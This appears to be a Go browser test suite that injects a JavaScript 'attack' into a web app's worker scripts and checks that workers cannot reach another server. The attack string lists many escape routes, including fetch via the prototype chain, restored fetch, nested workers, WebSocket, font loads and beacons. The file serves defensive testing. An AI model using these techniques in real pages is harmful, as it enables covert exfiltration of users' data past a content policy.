//go:build browser

package browsertest

import (
	"bytes"
	"fmt"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
)

// attack is a stranger's code in a worker that holds the file: once it gets an address, it tries
// every way out and reports which of them failed and how.
const attack = `
{
  const far = (way) => attack.foreign + way;
  const attack = { foreign: "" };
  const nested = (text) => new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  const loaded = (request) => new Promise((done) => { request.onload = request.onerror = request.onopen = request.onclose = done; });
  const ways = {
    fetch: () => fetch(far("fetch"), { mode: "no-cors" }),
    "fetch of the chain": () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, far("chain"), { mode: "no-cors" }),
    "fetch deleted": () => { delete self.fetch; return self.fetch(far("deleted"), { mode: "no-cors" }); },
    "fetch put back": () => { Object.defineProperty(self, "fetch", { value: WorkerGlobalScope.prototype.fetch }); return self.fetch(far("again"), { mode: "no-cors" }); },
    XMLHttpRequest: () => { const r = new XMLHttpRequest(); r.open("GET", far("xhr")); r.send(); return loaded(r); },
    WebSocket: () => loaded(new WebSocket(far("socket").replace("http", "ws"))),
    EventSource: () => loaded(new EventSource(far("events"))),
    WebTransport: () => new WebTransport(far("transport").replace("http", "https")).ready,
    importScripts: () => importScripts(far("scripts")),
    "import()": () => import(far("import")),
    "a worker's fetch": () => nested("fetch('" + far("nested") + "', { mode: 'no-cors' })") && 0,
    "a worker's socket": () => nested("new WebSocket('" + far("nestedsocket").replace("http", "ws") + "')") && 0,
    "a worker from there": () => nested("import('" + far("nestedimport") + "')") && 0,
    "a cache": async () => (await caches.open("attack")).add(new Request(far("cache"), { mode: "no-cors" })),
    "a font": () => new FontFace("attack", "url(" + far("font") + ")").load(),
    "a beacon": () => navigator.sendBeacon(far("beacon")),
  };
  const channel = new BroadcastChannel("attack WHERE");
  channel.onmessage = async ({ data }) => {
    attack.foreign = data;
    const failed = {};
    for (const [name, way] of Object.entries(ways)) {
      try {
        await Promise.race([way(), new Promise((late) => setTimeout(late, 300))]);
      } catch (error) {
        failed[name] = error.name;
      }
    }
    channel.postMessage(failed);
  };
}
`

// attacked adds the attack to scripts of the bundle.
func attacked(t *testing.T, scripts ...string) fs.FS {
	t.Helper()
	files, bundle := fstest.MapFS{}, readBundle(t)
	for name, text := range bundle {
		if slices.Contains(scripts, path.Base(name)) {
			text = append(bytes.Clone(text),
				strings.ReplaceAll(attack, "WHERE", path.Base(name))...)
		}
		files[name] = &fstest.MapFile{Data: text}
	}
	return knowing(files, bundle)
}

// bare is a page with a worker that holds nothing but the attack, without any policy.
func bare(t *testing.T) *site {
	return serve(t, http.FileServerFS(fstest.MapFS{
		"index.html": &fstest.MapFile{Data: []byte(`<!doctype html><title>bare</title>
<link rel="icon" href="data:,"><script src="page.js"></script>`)},
		"page.js": &fstest.MapFile{Data: []byte(
			`new Worker("bare.js").onmessage = () => { globalThis.started = true; };`)},
		"bare.js": &fstest.MapFile{Data: []byte(
			strings.ReplaceAll(attack, "WHERE", "bare.js") + "postMessage(0);")},
	}), "/")
}

// elsewhere is another server, which notes what reaches it.
type elsewhere struct {
	*site
	mu      sync.Mutex
	asked   map[string]bool
	referer string
}

func serveElsewhere(t *testing.T) *elsewhere {
	e := &elsewhere{asked: map[string]bool{}}
	e.site = serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.asked[r.URL.Path] = true
		if referer := r.Referer(); referer != "" {
			e.referer = referer
		}
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}), "/")
	return e
}

// reached lists what came since the last time.
func (e *elsewhere) reached() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	reached := slices.Sorted(maps.Keys(e.asked))
	clear(e.asked)
	return reached
}

// A tab of either browser.
type tab interface {
	eval(expression string, into any)
	until(what, expression string)
}

// strike tells the attack in a worker to begin, and returns what failed.
func strike(p tab, where, foreign string) (failed map[string]string) {
	p.eval(fmt.Sprintf(`new Promise((done) => {
		const channel = new BroadcastChannel("attack %s");
		channel.onmessage = ({ data }) => done(data);
		channel.postMessage(%q);
	})`, where, foreign), &failed)
	return failed
}

// outward strikes in workers of a page that holds a file.
func outward(t *testing.T, p tab, foreign *elsewhere, workers ...string) {
	t.Helper()
	for _, where := range workers {
		failed := strike(p, where, foreign.url)
		if reached := foreign.reached(); len(reached) > 0 {
			t.Errorf("from %s there came %q; what failed: %v", where, reached, failed)
		}
		for _, way := range []string{"fetch", "fetch of the chain", "fetch deleted",
			"fetch put back", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport",
			"importScripts", "a worker's fetch", "a cache", "a font", "a beacon"} {
			if got := failed[way]; got != "ReferenceError" && got != "TypeError" {
				t.Errorf("in %s, %s is there and fails with %q", where, way, got)
			}
		}
	}
}

// control shows that the attack gets through where nothing stops it.
func control(t *testing.T, p tab, foreign *elsewhere) {
	t.Helper()
	p.until("the worker", "globalThis.started")
	failed := strike(p, "bare.js", foreign.url)
	reached := foreign.reached()
	for _, way := range []string{"/fetch", "/chain", "/deleted", "/again", "/xhr", "/socket",
		"/events", "/scripts", "/import", "/nested", "/nestedsocket", "/cache", "/font"} {
		if !slices.Contains(reached, way) {
			t.Errorf("a worker without a policy does not get out by %s: only by %q, failed: %v",
				way, reached, failed)
		}
	}
}

// TestWorkersHaveNoWayOut: on a server that sends no headers, code that runs in a worker that holds
// the file reaches no other server. The policy in the document limits the page itself, and a site
// that it links to does not learn where a visitor came from.
func TestWorkersHaveNoWayOut(t *testing.T) {
	foreign := serveElsewhere(t)
	s := serve(t, http.FileServerFS(attacked(t, "engine.js", "digest.js", "reader.js")), "/")
	p := open(t, s.url)
	p.record.also = append(p.record.also, strings.TrimSuffix(foreign.url, "/"))
	p.expect("") // what is stopped is reported
	p.sample("Clinic visits")
	p.waitText("wait_minutes")
	outward(t, p, foreign, "engine.js", "digest.js")

	path := filepath.Join(t.TempDir(), "people.zip")
	if err := os.WriteFile(path, zipped(t, "people.csv", peopleCSV(100)), 0o600); err != nil {
		t.Fatal(err)
	}
	r := p.another(s.url)
	r.record.also = p.record.also
	r.expect("")
	r.upload("#file", path)
	r.waitText("ZIP archive")
	outward(t, r, foreign, "reader.js")

	for _, name := range []string{"RTCPeerConnection", "WebSocket", "EventSource", "WebTransport",
		"navigator.sendBeacon"} {
		var kind string
		if p.eval(`typeof `+strings.Replace(name, "navigator", "globalThis.navigator", 1),
			&kind); kind != "undefined" {
			t.Errorf("the page has %s, a %s", name, kind)
		}
	}
	p.eval(`void (location.href = "`+foreign.url+`gone")`, nil)
	p.wait("the other server to be reached", func() bool {
		return slices.Contains(foreign.reached(), "/gone")
	})
	if foreign.referer != "" {
		t.Errorf("it was told %q", foreign.referer)
	}

	q := open(t, bare(t).url)
	q.record.also = p.record.also
	q.expect("")
	control(t, q, foreign)
}

// TestFirefoxWorkersHaveNoWayOut is TestWorkersHaveNoWayOut in the other browser.
func TestFirefoxWorkersHaveNoWayOut(t *testing.T) {
	foreign := serveElsewhere(t)
	s := serve(t, http.FileServerFS(attacked(t, "engine.js", "digest.js")), "/")
	f := openFirefox(t, s.url)
	f.click("#begin summary")
	f.click("#begin .sample")
	f.waitText("wait_minutes")
	outward(t, f, foreign, "engine.js") // there is no digest.js, see engine.js
	f.call("browsingContext.navigate",
		map[string]any{"context": f.tab, "url": bare(t).url, "wait": "complete"}, nil)
	control(t, f, foreign)
	f.problems = nil // what was stopped is reported
}

// asking has a worker ask its own server for files, where scripts can still be had from.
const asking = `
new BroadcastChannel("ask WHERE").onmessage = async ({ data }) => {
  for (let i = 0; i < data; i++) await import("./fault.js?" + i);
};
`

// TestRequestsAreCountedInEveryRealm: what the engine, its helper and the service worker ask for is
// in the number that the page shows.
func TestRequestsAreCountedInEveryRealm(t *testing.T) {
	files, bundle := fstest.MapFS{}, readBundle(t)
	for name, text := range bundle {
		if base := path.Base(name); base == "engine.js" || base == "digest.js" {
			text = append(bytes.Clone(text), strings.ReplaceAll(asking, "WHERE", base)...)
		}
		files[name] = &fstest.MapFile{Data: text}
	}
	p := open(t, serve(t, http.FileServerFS(knowing(files, bundle)), "/").url)
	p.installed()
	p.sample("Clinic visits")
	p.waitText("wait_minutes")
	counted := func() (own int) {
		p.eval(`Number(/(\d+) own/.exec(document.getElementById("request-count").textContent)[1])`,
			&own)
		return own
	}
	settled := func() (own int) {
		p.wait("the number to stand still", func() bool {
			own = counted()
			p.eval(`new Promise((later) => setTimeout(later, 500))`, nil)
			return counted() == own
		})
		return own
	}
	before := settled()
	var kept int
	p.eval(`caches.keys().then(async ([name]) => (await (await caches.open(name)).keys()).length)`,
		&kept)
	if before < 2*kept-20 { // the page and its workers load most of them, too
		t.Errorf("%d requests of the page's own were counted, of which the service worker made %d",
			before, kept)
	}
	for _, where := range []string{"engine.js", "digest.js"} {
		p.eval(`new BroadcastChannel("ask `+where+`").postMessage(5)`, nil)
		p.wait("the requests of "+where+" to be counted", func() bool {
			return counted() >= before+5
		})
		if after := settled(); after != before+5 {
			t.Errorf("5 requests in %s count as %d", where, after-before)
		}
		before += 5
	}
}
